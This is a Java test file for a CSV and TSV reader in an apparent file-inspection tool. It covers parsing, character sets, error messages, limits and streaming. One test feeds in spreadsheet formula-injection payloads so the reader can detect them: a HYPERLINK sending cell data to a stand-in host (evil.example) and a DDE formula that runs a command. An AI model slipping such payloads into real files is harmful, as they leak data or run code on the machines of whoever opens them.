package uk.warden.inspect.format.text;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.BufferedWriter;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import uk.warden.inspect.content.HiddenContent;
import uk.warden.inspect.content.Limits;
import uk.warden.inspect.content.Location;
import uk.warden.inspect.content.RecordingSink;
import uk.warden.inspect.content.Source;
import uk.warden.inspect.content.UnreadableException;

class CsvReaderTests {

  private static RecordingSink read(byte[] bytes) throws UnreadableException {
    return read(bytes, Limits.defaults());
  }

  private static RecordingSink read(byte[] bytes, Limits limits) throws UnreadableException {
    RecordingSink sink = new RecordingSink();
    new CsvReader().read(Source.of("export.csv", bytes, limits), sink);
    return sink;
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static RecordingSink.Cell cell(int row, int column, String value) {
    return new RecordingSink.Cell(row, column, value, null);
  }

  @Test
  void recordsBecomeOneTableWithoutFindings() throws Exception {
    RecordingSink sink = read(utf8("name,collar\r\nAmy Fox,PC 4471\r\nRaj Kaur,DC 802\r\n"));

    assertThat(sink.structures).isEmpty();
    assertThat(sink.tables)
        .singleElement()
        .satisfies(t -> assertThat(t.location()).isEqualTo(Location.of("export.csv")));
    assertThat(sink.tables.get(0).cells())
        .containsExactly(
            cell(0, 0, "name"),
            cell(0, 1, "collar"),
            cell(1, 0, "Amy Fox"),
            cell(1, 1, "PC 4471"),
            cell(2, 0, "Raj Kaur"),
            cell(2, 1, "DC 802"));
  }

  @Test
  void quotedCellsMaySpanLines() throws Exception {
    RecordingSink sink =
        read(utf8("id,notes\n1,\"first line\nsecond line, with comma\"\n2,plain\n"));

    assertThat(sink.tables.get(0).cells())
        .containsExactly(
            cell(0, 0, "id"),
            cell(0, 1, "notes"),
            cell(1, 0, "1"),
            cell(1, 1, "first line\nsecond line, with comma"),
            cell(2, 0, "2"),
            cell(2, 1, "plain"));
  }

  @Test
  void semicolonsAreFoundWhereCommasAreDecimals() throws Exception {
    RecordingSink sink = read(utf8("item;amount\nfuel;12,50\nfood;3,20\n"));

    assertThat(sink.tables.get(0).cells()).contains(cell(1, 1, "12,50"), cell(2, 0, "food"));
  }

  @Test
  void excelsSeparatorLineIsObeyedAndSkipped() throws Exception {
    RecordingSink sink = read(utf8("sep=;\na;b\nc;d\n"));

    assertThat(sink.tables.get(0).cells())
        .containsExactly(cell(0, 0, "a"), cell(0, 1, "b"), cell(1, 0, "c"), cell(1, 1, "d"));
  }

  @Test
  void charactersSetsAreDetected() throws Exception {
    byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
    byte[] withBom = concat(bom, utf8("name,town\nZoë,Ashford £\n"));
    assertThat(read(withBom).tables.get(0).cells())
        .startsWith(cell(0, 0, "name"))
        .contains(cell(1, 0, "Zoë"));

    byte[] utf16 = "name,town\nZoë,Ashford £\n".getBytes(StandardCharsets.UTF_16);
    assertThat(read(utf16).tables.get(0).cells())
        .contains(cell(0, 0, "name"), cell(1, 1, "Ashford £"));

    byte[] cp1252 = "name,town\nZoë,Ashford £\n".getBytes(Charset.forName("windows-1252"));
    assertThat(read(cp1252).tables.get(0).cells())
        .contains(cell(1, 0, "Zoë"), cell(1, 1, "Ashford £"));

    assertThat(read(utf8("name,town\nZoë,Ashford £\n")).tables.get(0).cells())
        .contains(cell(1, 0, "Zoë"));
  }

  @Test
  void anUnterminatedQuoteNamesTheLine() {
    assertThatThrownBy(() -> read(utf8("a,b\n1,2\n3,\"open\n4,5\n")))
        .isInstanceOf(UnreadableException.class)
        .hasMessage(
            "the file has an unterminated quote: the quoted cell in the record starting at line 3"
                + " never closes");
  }

  @Test
  void textAfterAClosingQuoteNamesTheLine() {
    assertThatThrownBy(() -> read(utf8("a,b\n\"x\ny\",1\n\"bad\"tail,2\n")))
        .isInstanceOf(UnreadableException.class)
        .hasMessage(
            "the file is malformed in the record starting at line 4: a quoted cell is followed by"
                + " other characters");
  }

  @Test
  @Timeout(20)
  void aRecordCannotSwallowTheFile() {
    StringBuilder csv = new StringBuilder("a,b\n1,\"");
    String line = "x".repeat(99) + "\n";
    while (csv.length() < 6_000_000) {
      csv.append(line);
    }

    assertThatThrownBy(() -> read(utf8(csv.toString())))
        .isInstanceOf(UnreadableException.class)
        .hasMessage(
            "the record starting at line 2 is longer than 4,194,304 characters (an unterminated"
                + " quote?)");
  }

  @Test
  void cellsAreBounded() {
    Limits fiveCells = new Limits(200L << 20, 1L << 30, 200, 100, 5, 5, 100);

    assertThatThrownBy(() -> read(utf8("a,b,c\n1,2,3\n"), fiveCells))
        .isInstanceOf(UnreadableException.class)
        .hasMessage("the file has more than 5 cells");
  }

  @Test
  void formulasReachingOutsideAreExternalLinks() throws Exception {
    String csv =
        "name,link\n"
            + "a,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Click\"\")\"\n"
            + "\"=cmd|' /C calc'!A0\",x\n"
            + "-2+3,=SUM(A1:A2)\n";

    RecordingSink sink = read(utf8(csv));

    assertThat(sink.structures)
        .singleElement()
        .satisfies(
            s -> {
              assertThat(s.code()).isEqualTo(HiddenContent.EXTERNAL_LINK);
              assertThat(s.location()).isEqualTo(new Location("export.csv", null, "B2, A3"));
              assertThat(s.count()).isEqualTo(2);
              assertThat(s.detail())
                  .isEqualTo(
                      "2 cells hold formulas that reach outside the file when opened in a"
                          + " spreadsheet (HYPERLINK, DDE)");
            });
  }

  @Test
  void tabSeparatedFilesUseTabs() throws Exception {
    RecordingSink sink = new RecordingSink();
    new TsvReader()
        .read(Source.of("x.tsv", utf8("a\tb,c\n\"1\t2\"\t3\n"), Limits.defaults()), sink);

    assertThat(sink.tables.get(0).cells())
        .containsExactly(cell(0, 0, "a"), cell(0, 1, "b,c"), cell(1, 0, "1\t2"), cell(1, 1, "3"));
  }

  @Test
  @Timeout(60)
  void aLargeFileStreams(@TempDir Path folder) throws Exception {
    Path file = folder.resolve("big.csv");
    int rows = 200_000;
    try (BufferedWriter out = Files.newBufferedWriter(file)) {
      out.write("id,name,notes\n");
      for (int i = 0; i < rows; i++) {
        out.write(i + ",Person " + i + ",\"note about\nrecord " + i + "\"\n");
      }
    }
    long[] last = {-1, 0};
    CountingSink sink = new CountingSink(last);

    new CsvReader().read(Source.of(file, Limits.defaults()), sink);

    assertThat(last[0]).isEqualTo(rows);
    assertThat(last[1]).isEqualTo(3L * (rows + 1));
  }

  private static byte[] concat(byte[] a, byte[] b) {
    byte[] all = new byte[a.length + b.length];
    System.arraycopy(a, 0, all, 0, a.length);
    System.arraycopy(b, 0, all, a.length, b.length);
    return all;
  }

  /** Keeps only the last row number and the number of cells, as a large file must not be held. */
  private record CountingSink(long[] last) implements uk.warden.inspect.content.ContentSink {
    @Override
    public void structure(HiddenContent code, Location location, long count, String detail) {}

    @Override
    public void text(Location location, HiddenContent hiddenBy, CharSequence text) {}

    @Override
    public void table(Location location, HiddenContent hiddenBy) {}

    @Override
    public void cell(int row, int column, CharSequence value, HiddenContent hiddenBy) {
      last[0] = row;
      last[1]++;
    }

    @Override
    public void nested(Location location, String name, byte[] content) {}
  }
}
